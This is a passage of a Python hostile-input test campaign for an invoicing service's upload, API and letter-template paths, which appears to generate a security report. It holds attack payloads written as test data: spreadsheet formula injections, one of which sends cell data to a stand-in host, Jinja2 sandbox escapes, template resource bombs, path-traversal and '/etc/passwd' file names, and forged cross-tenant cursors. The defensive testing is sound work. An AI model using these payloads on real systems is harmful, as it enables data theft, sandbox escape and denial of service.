    yield Case("pdf-page-count-bomb", path, "501 pages (more than the 500 allowed)", "s3",
               run=lambda env: env.s3_file("invoices", "pages.pdf", many_pages_pdf()))
    yield Case("pdf-oversized", path, "21 MB (the limit is 20 MB)", "s3", timeout=30,
               run=lambda env: env.s3_file("invoices", "oversized.pdf",
                                           oversized(text_pdf(), 21 * 1024 * 1024)))


def _csv_cases() -> Iterator[Case]:
    path = "CSV invoices via the S3 inbox"
    formulas = {
        "equals": ("number", '=HYPERLINK("http://evil.example/?"&A1,"Rechnung")'),
        "plus": ("name", "+cmd|' /C calc'!A0"),
        "minus": ("name", "-2+3+cmd|' /C calc'!A0"),
        "at": ("city", "@SUM(1+1)*cmd|' /C calc'!A0"),
        "tab": ("name", "\t=1+1"),
    }
    for name, (cell, formula) in formulas.items():
        row = csv_row(number=formula) if cell == "number" else (
            csv_row(name=formula) if cell == "name" else csv_row(city=formula))
        yield Case(f"csv-formula-{name}", path, f"formula injection in the {cell} cell "
                   f"(starts with {formula[:1]!r})", "s3",
                   run=upload("invoices", f"formula-{name}.csv", row))
    yield Case("csv-eicar", path, "the EICAR test signature in a cell", "s3",
               run=lambda env: env.s3_file("invoices", "eicar.csv", csv_row(name=EICAR.decode())))
    yield Case("csv-nul-bytes", path, "NUL bytes (a binary file named .csv)", "s3",
               run=lambda env: env.s3_file("invoices", "nul.csv", csv_row() + b"\x00" * 4096))
    yield Case("csv-huge-field", path, "one 10 MB cell", "s3", timeout=30,
               run=lambda env: env.s3_file("invoices", "huge-field.csv",
                                           csv_row(name="A" * 10 * 1024 * 1024)))
    yield Case("csv-100k-columns", path, "a header of 100 000 columns", "s3",
               run=lambda env: env.s3_file("invoices", "columns.csv",
                                           (";".join(f"c{i}" for i in range(100_000)) + "\n").encode()))
    yield Case("csv-zip-polyglot", path, "a ZIP archive named .csv", "s3",
               run=lambda env: env.s3_file("invoices", "archive.csv", b"PK\x03\x04" + JUNK[:512]))
    yield Case("csv-oversized", path, "21 MB (the limit is 20 MB)", "s3", timeout=30,
               run=lambda env: env.s3_file("invoices", "oversized.csv",
                                           oversized(csv_row(), 21 * 1024 * 1024)))
    bank = "bank CSV via the S3 inbox"
    yield Case("bank-csv-formula", bank, "formula injection in the payer name and remittance", "s3",
               run=_bank_formula)
    yield Case("bank-csv-eicar", bank, "the EICAR test signature in a remittance text", "s3",
               run=lambda env: _bank_eicar(env, "bank-eicar.csv",
                                           bank_csv("Max Muster", "RE-9 " + EICAR.decode())))
    yield Case("bank-csv-oversized", bank, "21 MB (the limit is 20 MB)", "s3", timeout=30,
               run=lambda env: env.s3_file("bank", "bank-oversized.csv",
                                           oversized(bank_csv("a", "b"), 21 * 1024 * 1024)))
    yield Case("mt940-nul-bytes", "MT940 via the S3 inbox", "binary junk after a :20: header", "s3",
               run=lambda env: env.s3_file("bank", "junk.sta", b":20:STARTUMS\r\n" + JUNK))


def _bank_eicar(env: Env, name: str, data: bytes) -> Verdict:
    """A payer controls the remittance text: the signature is removed from it and the payment
    booked (refusing the statement would let any payer block the tenant's reconciliation)."""
    verdict = env.s3_file("bank", name, data)
    if verdict.outcome != "accepted":
        return verdict
    texts = " ".join(f"{p.remittance} {p.debtor_name}" for p in env.payments())
    if EICAR.decode() in texts:
        return Verdict("accepted", "the signature reached the stored payment")
    if "malware test signature removed" not in texts:
        return Verdict("accepted", "the payment was not booked")
    return Verdict("defused", "the booking is kept (a payer must not be able to block the whole "
                              "statement); the signature was removed from its text before storage")


def _bank_formula(env: Env) -> Verdict:
    formula = '=HYPERLINK("http://evil.example","klick")'
    verdict = env.s3_file("bank", "bank-formula.csv", bank_csv("@SUM(1+1)", formula))
    if verdict.outcome != "accepted":
        return verdict
    stored = [p for p in env.payments() if p.remittance == formula]
    if stored and stored[0].debtor_name == "@SUM(1+1)":
        return Verdict("defused", "a payment is never refused for its text: booked, the texts kept "
                                  "verbatim as data (JSON through the API; Mahnwerk writes no "
                                  "spreadsheets)")
    return Verdict("accepted", "the texts were changed or lost")


CORPUS_FILES = (
    ("corpus-zugferd-fail-encoding", "invoices",
     "zugferd-corpus/ZUGFeRDv2/fail/Mustangproject/factur-x-invalid-xml-encoding-attribute.pdf",
     "upstream failing file: an illegal XML encoding name in the embedded XML"),
    ("corpus-zugferd-fail-profile", "invoices",
     "zugferd-corpus/ZUGFeRDv2/fail/python-factur-x/python-factur-x.pdf",
     "upstream failing file: a malformed profile id"),
    ("corpus-eicar-cii", "invoices", "zugferd-corpus/other/eicar.cii.xml",
     "the EICAR test file attached to a CII e-invoice"),
    ("corpus-eicar-ubl", "invoices", "zugferd-corpus/other/eicar.ubl.xml",
     "the EICAR test file attached to a UBL e-invoice"),
    ("corpus-camt-wrong", "bank", "camt/camt053.v2.wrong.xml",
     "upstream malformed camt.053 (no statement)"),
    ("corpus-mt940-broken", "bank", "mt940/betterplace/sepa_snippet_broken.sta",
     "upstream broken MT940 (a :25: where a :86: belongs)"),
)


def _corpus_cases() -> Iterator[Case]:
    for case_id, kind, rel, what in CORPUS_FILES:
        yield Case(case_id, "corpus file via the S3 inbox", what, "s3", corpus=rel,
                   run=_corpus(kind, rel))


def _corpus(kind: str, rel: str) -> Callable[[Env], Verdict]:
    def run(env: Env) -> Verdict:
        verdict = env.s3_corpus(kind, rel)
        if rel.endswith("sepa_snippet_broken.sta") and verdict.outcome == "accepted" \
                and "line" in verdict.reason:
            return Verdict("defused", "the broken line was refused (" + verdict.reason.split("; ", 1)[1]
                           + "); the intact booking before it was kept, as the bank sent it")
        return verdict
    return run


def _template_cases() -> Iterator[Case]:
    path = "tenant letter templates (the sandbox, check_template)"
    sources = {
        "tpl-dunder-mro": ("attribute escape: ''.__class__.__mro__", "{{ ''.__class__.__mro__ }}"),
        "tpl-dunder-globals": ("attribute escape: a method's __globals__",
                               "{{ customer_name.format.__globals__ }}"),
        "tpl-cycler-globals": ("attribute escape: cycler.__init__.__globals__",
                               "{{ cycler.__init__.__globals__.os }}"),
        "tpl-subclasses": ("escape to every class: __subclasses__()",
                           "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        "tpl-mutation": ("mutating a context list", "{{ invoice_numbers.append('x') }}"),
        "tpl-range-bomb": ("nested range loops (10^10 iterations)",
                           "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}"
                           "{% endfor %}"),
        "tpl-loop-depth": ("three nested loops over the invoices",
                           "{% for a in invoice_numbers %}{% for b in invoice_numbers %}"
                           "{% for c in invoice_numbers %}x{% endfor %}{% endfor %}{% endfor %}"),
        "tpl-string-loop": ("a loop over the characters of a value",
                            "{% for c in customer_name %}{{ c }}{% endfor %}"),
        "tpl-string-repeat": ("string repetition: 'x' * 10**9", "{{ 'x' * 1000000000 }}"),
        "tpl-power": ("a power folded while compiling: 10 ** 10 ** 8", "{{ 10 ** 10 ** 8 }}"),
        "tpl-percent-format": ("printf padding: '%999999999s' % x", "{{ '%999999999s' % 'a' }}"),
        "tpl-format-width": ("str.format padding of 999 999 999",
                             "{{ '{:>999999999}'.format(customer_name) }}"),
        "tpl-lipsum": ("lipsum(10**6)", "{{ lipsum(1000000) }}"),
        "tpl-center": ("the center filter with a width of 10**9", "{{ 'x' | center(1000000000) }}"),
        "tpl-replace-chain": ("replace chains that double a text each time",
                              "{{ customer_name" + "|replace('a','aa')" * 40 + " }}"),
        "tpl-tojson-chain": ("tojson chains that double backslashes each time",
                             "{{ customer_name" + "|tojson" * 40 + " }}"),
        "tpl-set-doubling": ("set s = s ~ s, repeated",
                             "{% set s = customer_name %}" + "{% set s = s ~ s %}" * 40 + "{{ s }}"),
        "tpl-recursive-macro": ("a macro calling itself",
                                "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
        "tpl-self-include": ("a template including itself", "{% include 'check.txt' %}"),
        "tpl-autoescape-off": ("switching autoescaping off", "{% autoescape false %}x{% endautoescape %}"),
        "tpl-undefined": ("an unknown variable (a typo must not print blank)", "{{ iban }}"),
        "tpl-syntax-error": ("broken syntax", "{% if %}"),
        "tpl-oversized": ("a 25 000-character template", "x" * 25_000),
    }
    for case_id, (what, source) in sources.items():
        yield Case(case_id, path, what, "pure", pure=("template", (source,)), timeout=10)
    yield Case("tpl-output-bomb", path, "two allowed loops over 300 invoices printing 1 kB each",
               "pure", pure=("template", ("{% for a in invoice_numbers %}{% for b in invoice_numbers %}"
                                          + "x" * 1000 + "{% endfor %}{% endfor %}", 300)),
               timeout=10)
    values = "tenant-editable values (settings)"
    payload = "{{ 7*7 }}{{ ''.__class__.__mro__ }}{% for x in range(9) %}{% endfor %}"
    for where in ("company.name", "level name", "customer.name"):
        yield Case(f"tpl-literal-{where.replace(' ', '-').replace('.', '-')}", values,
                   f"template syntax in the {where}", "pure", pure=("literal_text", (where, payload)))
    yield Case("api-settings-texts", "PUT /v1/settings (tenant texts)",
               "a template override with an attribute escape in the settings document", "api",
               run=lambda env: env.api_verdict("PUT", "/v1/settings/", {
                   **env.settings, "texts": {"de/level1.txt": "{{ ''.__class__.__mro__ }}"}}))


def _key_cases() -> Iterator[Case]:
    path = "S3 keys (parse_inbox_key)"
    keys = {
        "key-traversal": "inbox/acme/invoices/../../reports/acme/x.csv",
        "key-absolute": "/inbox/acme/invoices/x.csv",
        "key-dotdot-name": "inbox/acme/invoices/..",
        "key-dot-name": "inbox/acme/invoices/.",
        "key-empty-name": "inbox/acme/invoices/",
        "key-backslash": "inbox/acme/invoices/..\\..\\x.csv",
        "key-nul": "inbox/acme/invoices/x\x00.csv",
        "key-newline": "inbox/acme/invoices/x\n.csv",
        "key-rtl-override": "inbox/acme/invoices/rechnung\u202efdp.csv",
        "key-fullwidth-solidus": "inbox/acme/invoices/..\uff0f..\uff0fx.csv",
        "key-two-dot-leader": "inbox/acme/invoices/\u2025\u2215x.csv",
        "key-percent-encoded": "inbox/acme/invoices/%2e%2e%2fx.csv",
        "key-cyrillic-tenant": "inbox/\u0430cme/invoices/x.csv",
        "key-upper-tenant": "inbox/ACME/invoices/x.csv",
        "key-other-folder": "inbox/acme/../beta/invoices/x.csv",
        "key-long-name": "inbox/acme/invoices/" + "x" * 201 + ".csv",
    }
    for case_id, key in keys.items():
        yield Case(case_id, path, f"the key {key[:60]!r}", "pure", pure=("inbox_key", (key,)))
    yield Case("key-s3-traversal", "S3 inbox (an object at a key outside the layout)",
               "an object at inbox/acme/invoices/../../reports/acme/x.csv", "s3", run=_s3_bad_key)
    uploads = {
        "upload-traversal": "../../x.csv",
        "upload-absolute": "/etc/passwd",
        "upload-subfolder": "a/b.csv",
        "upload-dotdot": "..",
        "upload-nul": "x\x00.csv",
        "upload-rtl-override": "rechnung\u202efdp.csv",
        "upload-fullwidth-solidus": "..\uff0fx.csv",
        "upload-percent-encoded": "%2e%2e%2fx.csv",
        "upload-backslash": "..\\..\\x.csv",
        "upload-long-name": "x" * 201,
    }
    for case_id, name in uploads.items():
        yield Case(case_id, "POST /v1/uploads (presigned upload URL)", f"the file name {name[:40]!r}",
                   "api", run=request("POST", "/v1/uploads/", {"file_name": name}))
    yield Case("upload-kind-traversal", "POST /v1/uploads (presigned upload URL)",
               "the folder '../bank'", "api",
               run=lambda env: env.api_verdict("POST", "/v1/uploads/", {"file_name": "x.csv",
                                                                         "kind": "../bank"}))


def _s3_bad_key(env: Env) -> Verdict:
    """An object outside the inbox layout (only someone with bucket access can put one: uploads
    go through presigned URLs for checked keys). The intake refuses the key; by design the
    message then goes to the dead-letter queue, whose alarm tells the operator
    (tests/integration/test_intake.py)."""
    from mahnwerk.domain.model import DomainError
    from mahnwerk.service.intake import parse_inbox_key

    key = "inbox/acme/invoices/../../reports/acme/x.csv"
    dlq = env.dlq()
    env.put(key, csv_row())
    env.stack.drain()
    reports = env.stack.client("s3").list_objects_v2(Bucket=env.stack.bucket,
                                                      Prefix=f"reports/{TENANT}/imports/x.csv")
    if reports.get("KeyCount"):
        return Verdict("accepted", "the file was imported")
    if env.dlq() != dlq + 1:
        return Verdict("crashed", "the message neither succeeded nor reached the dead-letter queue")
    url = env.stack.resolver.values["IntakeDeadLetterQueue"]
    env.stack.client("sqs").purge_queue(QueueUrl=url)
    try:
        parse_inbox_key(key)
    except DomainError as exc:
        return Verdict("refused", f"{exc}; nothing imported; the message went to the intake "
                                  "dead-letter queue (the designed path: an alarm for the operator)")
    return Verdict("accepted", "parse_inbox_key took the key")


def _api_cases() -> Iterator[Case]:
    big = "x" * (5 * 1024 * 1024)
    invoice = {"number": "B-1", "customer": {"id": "K-9", "name": "N"}, "issue_date": "2026-03-01",
               "amount": "1.00"}
    bodies = {
        "api-body-batch-cap": ("POST", "/v1/invoices/", "1 001 invoices in one request (cap 1 000)",
                               lambda: {"invoices": [{**invoice, "number": f"B-{i}"} for i in range(1001)]}),
        "api-body-5mb-field": ("POST", "/v1/invoices/", "a 5 MB customer name",
                               lambda: {"invoices": [{**invoice, "customer": {"name": big}}]}),
        "api-body-5mb-settings": ("PUT", "/v1/settings/", "a 5 MB company name in the settings",
                                  lambda: {"company": {"name": big}}),
        "api-body-500kb-settings": ("PUT", "/v1/settings/",
                                    "a 500 kB website in otherwise valid settings", None),
        "api-body-5mb-upload-name": ("POST", "/v1/uploads/", "a 5 MB file name",
                                     lambda: {"file_name": big}),
        "api-body-5mb-reason": ("POST", "/v1/invoices/P-0/pause", "a 5 MB pause reason",
                                lambda: {"until": "2026-04-01", "reason": big}),
        "api-body-5mb-payment": ("POST", "/v1/payments/", "a 5 MB remittance reference",
                                 lambda: {"amount": "1.00", "booking_date": "2026-03-09",
                                          "reference": big}),
        "api-body-nested-json": ("POST", "/v1/invoices/", "JSON nested 100 000 deep",
                                 lambda: "[" * 100_000 + "]" * 100_000),
        "api-body-not-json": ("POST", "/v1/invoices/", "a body that is not JSON",
                              lambda: "\x00\xff<invoices/>"),
        "api-body-formula": ("POST", "/v1/invoices/", "formula injection in a customer name",
                             lambda: {"invoices": [{**invoice, "customer": {
                                 "name": '=HYPERLINK("http://evil.example","x")'}}]}),
    }
    patches = {
        "api-patch-5mb-name": ("a 5 MB customer name", lambda: {"name": big}),
        "api-patch-wrong-types": ("wrong types: a number as name, text as the consumer flag, an "
                                  "object as e-mail", lambda: {"name": 42, "is_consumer": "yes",
                                                                "email": {"$ne": ""}}),
        "api-patch-control-chars": ("terminal escapes and a right-to-left override in a name",
                                    lambda: {"name": "Anna\x1b[2J\u202eSchmidt"}),
        "api-patch-null-name": ("null for the name (erase it)", lambda: {"name": None}),
        "api-patch-formula": ("formula injection in a city",
                              lambda: {"address": {"city": "=cmd|'/c calc'!A0"}}),
        "api-patch-unknown-field": ("a field that is no master data (the customer id)",
                                    lambda: {"customer_id": "K-2"}),
    }
    for case_id, (what, make) in patches.items():
        bodies[case_id] = ("PATCH", "/v1/customers/K-1", what, make)
    for case_id, (method, path, what, build) in bodies.items():
        yield Case(case_id, f"{method} {path.rstrip('/')} (request body)", what, "api", timeout=30,
                   run=_api_body(method, path, build, case_id))
    yield Case("api-patch-other-tenant", "PATCH /v1/customers/K-1 (request body)",
               "rename a customer only another tenant has", "api", run=_patch_other_tenant)
    pages = {
        "page-limit-huge": ("/v1/invoices", {"limit": str(10 ** 9)}, "limit=10^9"),
        "page-limit-zero": ("/v1/invoices", {"limit": "0"}, "limit=0"),
        "page-limit-negative": ("/v1/customers", {"limit": "-5"}, "limit=-5"),
        "page-limit-text": ("/v1/payments", {"limit": "all"}, "limit=all"),
        "page-notices-limit-huge": ("/v1/notices", {"limit": str(10 ** 9)}, "limit=10^9"),
        "page-cursor-garbage": ("/v1/invoices", {"cursor": "garbage!"}, "a cursor that is not one"),
        "page-cursor-nested": ("/v1/invoices", {"cursor": base64.urlsafe_b64encode(
            b"[" * 1400 + b"]" * 1400).decode().rstrip("=")[:2000]}, "a cursor of nested JSON"),
        "page-cursor-long": ("/v1/invoices", {"cursor": "A" * 5000}, "a 5 000-character cursor"),
        "page-cursor-forged-key": ("/v1/invoices", {"cursor": base64.urlsafe_b64encode(json.dumps(
            {"pk": {"S": "T#beta"}, "sk": {"S": "INV#P-0"}}).encode()).decode().rstrip("=")},
            "a hand-made cursor naming another tenant's partition"),
        "page-forecast-days": ("/v1/forecast", {"days": str(10 ** 6)}, "a forecast of 10^6 days"),
    }
    for case_id, (path, query, what) in pages.items():
        yield Case(case_id, f"GET {path} (pagination)", what, "api",
                   run=request("GET", path, query=query))
    yield Case("page-cursor-other-tenant", "GET /v1/invoices (pagination)",
               "a real cursor of another tenant", "api",
               run=lambda env: env.api_verdict("GET", "/v1/invoices",
                                               query={"cursor": env.other_cursor}))


def _api_body(method: str, path: str, build: Callable[[], Any] | None,
              case_id: str) -> Callable[[Env], Verdict]:
    def run(env: Env) -> Verdict:
        if build is None:  # valid settings, one field far too long
            body: Any = json.loads(json.dumps(env.settings))
            body["company"]["website"] = "w" * 500_000
        else:
            body = build()
        response = env.api(method, path, body)
        verdict = api_verdict(response)
        if case_id == "api-body-formula" and verdict.outcome == "accepted":
            rejected = response.body.get("rejected") or []
            if not response.body.get("created") and not response.body.get("unchanged") and rejected:
                return Verdict("refused", f"HTTP 200, the row rejected: {rejected[0]['reason']}")
        return verdict
    return run


def _patch_other_tenant(env: Env) -> Verdict:
    """A customer only the other tenant has: the edit must not find it, and it keeps its name."""
    row = {"number": "P-OT", "customer": {"id": "K-OTHER", "name": "Bodo Berg"},
           "issue_date": "2026-03-01", "amount": "1.00"}
    assert env.api("POST", "/v1/invoices", {"invoices": [row]}, tenant=OTHER).status == 200
    verdict = env.api_verdict("PATCH", "/v1/customers/K-OTHER", {"name": "übernommen"})
    kept = env.api("GET", "/v1/customers/K-OTHER", tenant=OTHER).body.get("name")
    if kept != "Bodo Berg":
        return Verdict("accepted", f"the other tenant's customer was renamed to {kept!r}")
    return verdict


def all_cases(env_url: str = "http://127.0.0.1:9", canary_file: str = "/canary") -> list[Case]:
    """Every case, in a fixed order. The URL and file are the canary's (any values list the same
    cases: ids do not depend on them)."""
    return [*_xml_cases(env_url, canary_file), *_pdf_cases(), *_csv_cases(), *_corpus_cases(),
            *_template_cases(), *_key_cases(), *_api_cases()]


# ================================================================================================
# running and reporting


def run_campaign(stack: Any = None, corpus: Path | None = CORPUS,
                 only: Callable[[Case], bool] | None = None) -> Report:
    """Run every case against ``stack`` (a started LocalStack; one is started if None)."""
    if stack is None:
        from .stack import LocalStack

        with LocalStack() as local:
            return run_campaign(local, corpus, only)
    env = Env(stack, corpus)
    worker = Worker()
    report = Report()
    try:
        for case in all_cases(env.canary.url, str(env.canary.file)):
            if only is not None and not only(case):
                continue
            started = time.monotonic()
            if case.corpus and (env.corpus is None or not (env.corpus / case.corpus).is_file()):
                verdict = Verdict("skipped", f"the corpus file {case.corpus} is not there")
            elif case.pure is not None:
                verdict = worker.run(*case.pure, timeout=case.timeout)
            else:
                assert case.run is not None
                verdict = bounded(lambda c=case: c.run(env), case.timeout)  # type: ignore[misc]
            if verdict.outcome in SAFE and not verdict.reason.strip():
                verdict = Verdict("accepted", "no reason given")
            if verdict.outcome == "crashed" and case.id in KNOWN_ISSUES:
                verdict = Verdict("crashed", f"{verdict.reason} — {KNOWN_ISSUES[case.id]}")
            report.results.append(Result(case, verdict.outcome, verdict.reason,
                                         time.monotonic() - started))
    finally:
        worker.stop()
        env.canary.close()
    return report


def _cell(text: str, limit: int = 220) -> str:
    text = " ".join(text.split())
    if len(text) > limit:
        text = text[: limit - 1] + "…"
    return text.replace("|", "\\|").replace("<", "&lt;")


FINDINGS = [
    "- **Tenant letter templates could hang or exhaust a worker** (fixed): Jinja2's sandbox blocks"
    " attribute escapes but not resource bombs (`'x' * 10**9`, `10 ** 10 ** 8` folded while"
    " compiling, nested `range` loops, `lipsum`, `center(10**9)`, doubling `replace`/`tojson`"
    " chains, recursive macros, self-includes). `mahnwerk.letters.sandbox` now checks a tenant's"
    " source before it compiles (no calls, no `*`/`**`/`%`, no `set`/`with`/macros/includes,"
    " allow-listed filters and tests, loops only over the context's lists and at most two deep,"
    " at most 20 000 characters) and bounds what it renders (200 000 characters).",
    "- **An oversized settings document crashed `PUT /v1/settings`** (fixed): a 500 kB field"
    " passed validation and DynamoDB's 400 KB item limit raised through the API (a 502). The"
    " settings validation now refuses documents over 300 000 bytes.",
    "- **The EICAR signature in a bank statement's texts was booked and stored** (fixed): it is now"
    " removed from the entry's texts (the booking kept, with a warning) — not the whole file"
    " refused, because a payer controls the remittance text and could otherwise block a tenant's"
    " reconciliation.",
    "- **An MT940 file with a `:20:` line and junk after it was read as nothing, without a"
    " reason** (fixed): it is now refused (no account, balance or booking found).",
    "- **A JSON body nested 100 000 deep crashes the API function** (open, reported):"
    " `RecursionError` from the body parser is not mapped to a client error (`mahnwerk.api.app`).",
    "- By design, not a finding: an object at a key outside `inbox/<tenant>/<invoices|bank>/<file>`"
    " (only someone with bucket access can put one) is refused by the intake and its message goes"
    " to the dead-letter queue, whose alarm tells the operator.",
]


def markdown(report: Report) -> str:
    counts = report.counts
    lines = [
        "# Hostile-input campaign",
        "",
        "Generated by `.venv/bin/python -m mahnwerk_local.hostile --write docs/hostile-input.md`"
        " (infra/mahnwerk_local/hostile.py); `tests/integration/test_hostile_campaign.py` runs it"
        " on every test run and checks that this file lists every case.",
        "",
        "Every attack goes through the real entry point: files are uploaded to the local stack's"
        " S3 inbox and the intake function's import report says what became of them; API attacks"
        " are requests through the authorizer and the API function (`LocalStack.api`); the"
        " letter-template sandbox and the S3 key rules are called directly, in a worker process"
        " with a 2 GB memory limit that is killed when a case overruns. Each case has a time limit"
        " (10–30 s). XXE and external-DTD payloads point at a canary (a local TCP listener and a"
        " file with a secret token); a connection or the token anywhere in a report counts as"
        " accepted.",
        "",
        "Outcomes: **refused** — the entry point said no, with the reason shown; **defused** — taken"
        " as inert data by design, and checked to be inert (e.g. a payment is never refused for its"
        " remittance text); **accepted**, **crashed** (an exception escaped, a 5xx, an unplanned"
        " dead-letter message), **hung** (over the time limit) and **skipped** (corpus missing)"
        " are failures or gaps.",
        "",
        "## Summary",
        "",
        "| tried | refused | defused | accepted | crashed | hung | skipped |",
        "|---:|---:|---:|---:|---:|---:|---:|",
        "| " + " | ".join(str(counts[k]) for k in ("tried", *OUTCOMES)) + " |",
        "",
        "By path:",
        "",
        "| path | tried | refused | defused | other |",
        "|---|---:|---:|---:|---:|",
    ]
    by_path: dict[str, Counter[str]] = {}
    for r in report.results:
        by_path.setdefault(r.case.path, Counter())[r.outcome] += 1
    for path, found in by_path.items():
        tried = sum(n for o, n in found.items() if o != "skipped")
        other = tried - found["refused"] - found["defused"]
        lines.append(f"| {_cell(path)} | {tried} | {found['refused']} | {found['defused']} | {other} |")
    lines += ["", "## Cases", "", "| case | path | attack | via | outcome | reason |",
              "|---|---|---|---|---|---|"]
    for r in report.results:
        lines.append(f"| `{r.case.id}` | {_cell(r.case.path, 60)} | {_cell(r.case.attack, 90)} | "
                     f"{r.case.via} | **{r.outcome}** | {_cell(r.reason)} |")
    lines += ["", "## Found by this campaign", "", *FINDINGS]
    lines += ["", "## Not covered here", "",
              "- Bodies over 6 MB never reach the API function: Lambda refuses larger synchronous"
              " payloads and API Gateway anything over 10 MB; `LocalStack.api` does not model"
              " either, so the campaign stays below.",
              "- The dashboard's HTML (`mahnwerk.web`) is not attacked here (escaping of stored"
              " texts in pages is its own check).",
              "- Random mutations of every parser's input are the fuzz tests in `tests/unit`"
              " (`test_intake_fuzz.py`, `test_bank_fuzz.py`).",
              ""]
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--corpus", type=Path, default=CORPUS)
    parser.add_argument("--write", type=Path, help="write the markdown report here")
    args = parser.parse_args(argv)
    logging.disable(logging.CRITICAL)
    started = time.monotonic()
    with open(os.devnull, "w") as quiet, contextlib.redirect_stdout(quiet):
        report = run_campaign(corpus=args.corpus)
    if args.write:
        args.write.write_text(markdown(report), encoding="utf-8")
    print(json.dumps(report.counts), f"{time.monotonic() - started:.1f} s")
    for r in report.failures:
        print(f"{r.outcome}: {r.case.id}: {r.reason}", file=sys.stderr)
    for case_id in report.fixed_issues:
        print(f"fixed: {case_id} no longer crashes; remove it from KNOWN_ISSUES", file=sys.stderr)
    return 1 if report.failures or report.fixed_issues else 0


if __name__ == "__main__":
    sys.exit(main())
